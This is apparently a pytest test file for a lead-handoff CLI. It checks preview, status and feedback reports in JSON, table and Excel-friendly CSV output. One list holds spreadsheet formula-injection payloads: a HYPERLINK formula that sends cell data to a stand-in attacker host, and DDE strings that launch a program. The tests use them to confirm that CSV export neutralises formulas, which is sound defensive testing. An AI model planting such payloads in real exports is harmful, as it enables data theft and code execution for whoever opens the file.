"""`handoff preview` (table, JSON, Excel CSV; writes nothing), `handoff status`, `report feedback`."""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from click.testing import CliRunner

from leadsync.core.cli.main import cli
from leadsync.core.handoff import apply_handoffs, plan_handoffs, preview_plans, render_plans, update_episodes

JST = ZoneInfo("Asia/Tokyo")
MONDAY = datetime(2025, 4, 7, 10, 0, tzinfo=JST)


@pytest.fixture
def filled(world, tmp_path, monkeypatch):
    """Two hot leads (one already handed off), one warm, and a config file pointing at the store."""
    monkeypatch.setenv("LEADSYNC_LOAD_PLUGINS", "")
    world.lead("old@example.com", company="既存商事", owner="rep-x")
    world.score("old@example.com", 95, MONDAY - timedelta(days=1), world.HOT)
    plans = plan_handoffs(world.store, world.settings, MONDAY - timedelta(days=1), world.host, task_connection="crm")
    apply_handoffs(world.store, plans, MONDAY - timedelta(days=1), None)
    world.lead("new@example.com", last_name="佐藤", first_name="花子", company="株式会社新規, Inc.")
    world.score("new@example.com", 84, MONDAY, world.HOT)
    world.lead("warm@example.com")
    world.score("warm@example.com", 60, MONDAY)
    config = tmp_path / "leadsync.toml"
    config.write_text(
        f'[state]\npath = "{world.path.name}"\n[handoff]\nowners = ["rep-a", "rep-b"]\n'
        '[connections.crm]\nplugin = "file"\npath = "in"\noutput = "out"\nroles = ["leads", "tasks"]\n',
        encoding="utf-8",
    )
    world.config = config
    return world


def invoke(world, *args):
    result = CliRunner().invoke(cli, ["--config", str(world.config), *args], catch_exceptions=False)
    assert result.exit_code == 0, result.output
    return result


def test_preview_json_lists_every_hot_lead_with_the_contract_fields(filled) -> None:
    before = (filled.handoffs(), filled.outbox(), filled.store.kv_get("handoff.round_robin"))
    result = invoke(filled, "handoff", "preview", "--no-pull", "--format", "json", "--as-of", "2025-04-07T10:00")
    data = json.loads(result.stdout)
    assert [d["email"] for d in data] == ["old@example.com", "new@example.com"]
    old, new = data
    for key in ("email", "name", "company", "score", "segment", "owner", "due_at", "reasons", "connection", "action"):
        assert key in new
    assert new["action"] == "create_task" and new["owner"] == "rep-a" and new["connection"] == "crm"
    assert new["due_at"] == "2025-04-08T10:00:00+09:00" and new["name"] == "佐藤 花子"
    assert new["reasons"][0] == {"rule": "役職: 経営層", "points": 30}
    assert old["action"] == "open_handoff" and old["owner"] == "rep-x" and old["due_at"].endswith("+09:00")
    assert (filled.handoffs(), filled.outbox(), filled.store.kv_get("handoff.round_robin")) == before


def test_preview_does_not_expire_or_notify_on_disk(filled) -> None:
    later = MONDAY + timedelta(days=45)
    data = json.loads(invoke(filled, "handoff", "preview", "--no-pull", "--format", "json", "--as-of", later.isoformat()).stdout)
    assert {d["email"]: d["action"] for d in data}["old@example.com"] == "cooldown"  # expired in the copy
    [row] = filled.handoffs()
    assert row["status"] == "open" and row["overdue_notified"] == 0


def test_preview_csv_is_excel_friendly(filled, tmp_path) -> None:
    for args in (["--excel"], ["--format", "csv"]):
        raw = invoke(filled, "handoff", "preview", "--no-pull", *args, "--as-of", "2025-04-07T10:00").stdout_bytes
        assert raw.startswith(b"\xef\xbb\xbf") and b"\r\n" in raw
        rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
        assert rows[1]["company"] == "株式会社新規, Inc." and rows[1]["action"] == "create_task"
        assert rows[1]["reasons"].startswith("役職: 経営層 +30; 価格ページ閲覧 +25")
    out = tmp_path / "preview.csv"
    invoke(filled, "handoff", "preview", "--no-pull", "--excel", "-o", str(out), "--as-of", "2025-04-07T10:00")
    assert out.read_bytes().startswith(b"\xef\xbb\xbfemail,name,company")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A2,"x")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\tTAB", "\rCR"]


def test_preview_csv_neutralises_formulas_but_keeps_numbers(filled) -> None:
    for n, formula in enumerate(FORMULAS):
        email = f"evil{n}@example.com"
        filled.lead(email, last_name=formula, company=formula)
        filled.score(email, 90 + n, MONDAY, [(formula, 20)])
    filled.lead("numbers@example.com", last_name="Numbers", company="-5")
    filled.score("numbers@example.com", 85, MONDAY)
    raw = invoke(filled, "handoff", "preview", "--no-pull", "--excel", "--as-of", "2025-04-07T10:00").stdout_bytes
    rows = {r["email"]: r for r in csv.DictReader(io.StringIO(raw.decode("utf-8-sig"), newline=""))}
    for n, formula in enumerate(FORMULAS):
        row = rows[f"evil{n}@example.com"]
        assert row["company"] == "'" + formula  # shown as text by Excel, the quote itself hidden
        assert row["reasons"].startswith("'" + formula)
        assert row["score"] == str(90 + n)
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row.values())
    assert rows["numbers@example.com"]["company"] == "-5"  # a negative number is data, not a formula
    # JSON is for programs: the exact values.
    data = json.loads(invoke(filled, "handoff", "preview", "--no-pull", "--format", "json", "--as-of", "2025-04-07T10:00").stdout)
    assert {d["company"] for d in data} >= set(FORMULAS)


def test_preview_table(filled, monkeypatch) -> None:
    monkeypatch.setenv("COLUMNS", "160")  # the table fits the terminal; narrower ones drop columns
    text = invoke(filled, "handoff", "preview", "--no-pull", "--as-of", "2025-04-07T10:00").stdout
    assert "new@example.com" in text and "create_task" in text and "open_handoff" in text


def test_render_plans_rejects_unknown_format(filled) -> None:
    plans = preview_plans(filled.settings, filled.store.snapshot(), MONDAY, filled.host)
    with pytest.raises(ValueError, match="unknown format 'xml'"):
        render_plans(plans, "xml", io.StringIO())


def test_preview_without_state_store_is_a_config_error(tmp_path, monkeypatch) -> None:
    config = tmp_path / "leadsync.toml"
    config.write_text('[state]\npath = "missing/state.db"\n', encoding="utf-8")
    result = CliRunner().invoke(cli, ["--config", str(config), "handoff", "preview", "--no-pull"])
    assert result.exit_code == 2 and "no state store yet" in result.stderr


def test_status_shows_overdue_and_first_touch(filled) -> None:
    filled.activity("old@example.com", "call-1", "call", MONDAY + timedelta(hours=1))
    data = json.loads(invoke(filled, "handoff", "status", "--format", "json", "--as-of", "2025-04-09T12:00").stdout)
    assert data["open"] == 1 and data["overdue"] == 0
    assert data["first_touch"]["touched"] == 1 and data["first_touch"]["within_sla"] == 1
    assert data["first_touch"]["median_hours"] == 25.0  # opened Sunday 10:00, called Monday 11:00
    assert data["first_touch"]["median_business_hours"] == 2.0
    assert filled.handoffs()[0]["overdue_notified"] == 0  # touched in time: no overdue notice


def test_status_is_a_report_and_notifies_overdue_once_only_when_asked(filled) -> None:
    before = filled.handoffs()
    data = json.loads(invoke(filled, "handoff", "status", "--format", "json", "--as-of", "2025-04-09T12:00").stdout)
    assert data["overdue"] == 1 and data["open_handoffs"][0]["overdue_notified"] is False
    assert filled.handoffs() == before  # a report: nothing changed
    data = json.loads(invoke(filled, "handoff", "status", "--notify", "--format", "json",
                             "--as-of", "2025-04-09T12:00").stdout)
    assert data["overdue"] == 1 and data["open_handoffs"][0]["overdue_notified"] is True
    assert filled.handoffs()[0]["overdue_notified"] == 1
    text = invoke(filled, "handoff", "status", "--as-of", "2025-04-09T12:00").stdout
    assert "OVERDUE" in text and "open 1, overdue 1" in text


def test_feedback_report_by_source_and_rule(world, tmp_path, monkeypatch) -> None:
    monkeypatch.setenv("LEADSYNC_LOAD_PLUGINS", "")
    leads = {
        "a@example.com": ("展示会", [("ウェビナー参加", 20), ("役職: 経営層", 30), ("メール開封", 5)], "予算なし"),
        "b@example.com": ("資料請求", [("資料ダウンロード", 20), ("メール開封", 5), ("企業規模: 500名以上", 25)], "時期尚早"),
        "c@example.com": ("資料請求", [("資料ダウンロード", 20), ("価格ページ閲覧", 25)], "予算なし"),
        "d@example.com": ("資料請求", [("資料ダウンロード", 20), ("価格ページ閲覧", 25)], None),
    }
    for email, (source, breakdown, _reason) in leads.items():
        world.lead(email, lead_source=source, status="New")
        world.score(email, 85, MONDAY, breakdown)
    update_episodes(world.store, world.settings, MONDAY, world.host)
    apply_handoffs(world.store, plan_handoffs(world.store, world.settings, MONDAY, world.host, task_connection="crm"), MONDAY, None)
    for email, (_source, _breakdown, reason) in leads.items():
        if reason:
            world.update_lead(email, status="Disqualified", status_reason=reason)
    update_episodes(world.store, world.settings, MONDAY + timedelta(days=2), world.host)
    config = tmp_path / "leadsync.toml"
    config.write_text(f'[state]\npath = "{world.path.name}"\n', encoding="utf-8")
    world.config = config

    data = json.loads(invoke(world, "report", "feedback", "--format", "json").stdout)
    assert data["handoffs"] == 4 and data["rejected"] == 3 and data["rejection_rate"] == 0.75
    assert data["by_reason"] == [{"reason": "予算なし", "count": 2}, {"reason": "時期尚早", "count": 1}]
    by_source = {s["lead_source"]: s for s in data["by_source"]}
    assert by_source["content_download"]["mqls"] == 3 and by_source["content_download"]["rejected"] == 2
    assert by_source["trade_show"]["rejection_rate"] == 1.0
    by_rule = {r["rule"]: r for r in data["by_rule"]}
    assert data["by_rule"][0]["rule"] == "資料ダウンロード"
    assert by_rule["資料ダウンロード"] == {"rule": "資料ダウンロード", "points": [20.0], "mqls": 3, "rejected": 2,
                                    "rejection_rate": 0.6667, "share_of_rejections": 0.6667}
    assert by_rule["価格ページ閲覧"]["rejected"] == 1 and by_rule["価格ページ閲覧"]["mqls"] == 2
    assert {r["email"] for r in data["rejections"]} == {"a@example.com", "b@example.com", "c@example.com"}
    text = invoke(world, "report", "feedback").stdout
    assert "By scoring rule" in text and "予算なし" in text and "75%" in text
    since = json.loads(invoke(world, "report", "feedback", "--format", "json", "--since", "2025-05-01").stdout)
    assert since["handoffs"] == 0


def test_feedback_report_counts_each_lead_source_once_whatever_its_spelling(world, tmp_path, monkeypatch) -> None:
    """Webinar/ウェビナー and 展示会/Trade show are one source each; an unknown source stays as written,
    and leads stored before the vocabulary existed (raw JSON in the store) are counted canonically."""
    monkeypatch.setenv("LEADSYNC_LOAD_PLUGINS", "")
    sources = {"a@example.com": "Webinar", "b@example.com": "ウェビナー", "c@example.com": "展示会",
               "d@example.com": "Trade show", "e@example.com": "パートナー経由"}
    for email, source in sources.items():
        world.lead(email, status="New")
        # As an older leadsync stored it: the source exactly as the connection sent it.
        raw = json.dumps({"key": email, "email": email, "refs": {"crm": email}, "lead_source": source, "status": "New"})
        with world.store.transaction() as db:
            db.execute("UPDATE leads SET data = ? WHERE key = ?", (raw, email))
        world.score(email, 85, MONDAY, [("ウェビナー参加", 20)])
    apply_handoffs(world.store, plan_handoffs(world.store, world.settings, MONDAY, world.host, task_connection="crm"), MONDAY, None)
    config = tmp_path / "leadsync.toml"
    config.write_text(f'[state]\npath = "{world.path.name}"\n', encoding="utf-8")
    world.config = config

    data = json.loads(invoke(world, "report", "feedback", "--format", "json").stdout)
    assert {s["lead_source"]: s["mqls"] for s in data["by_source"]} == {"webinar": 2, "trade_show": 2, "パートナー経由": 1}
    text = invoke(world, "report", "feedback").stdout
    assert "ウェビナー" in text and "展示会" in text and "Trade show" not in text
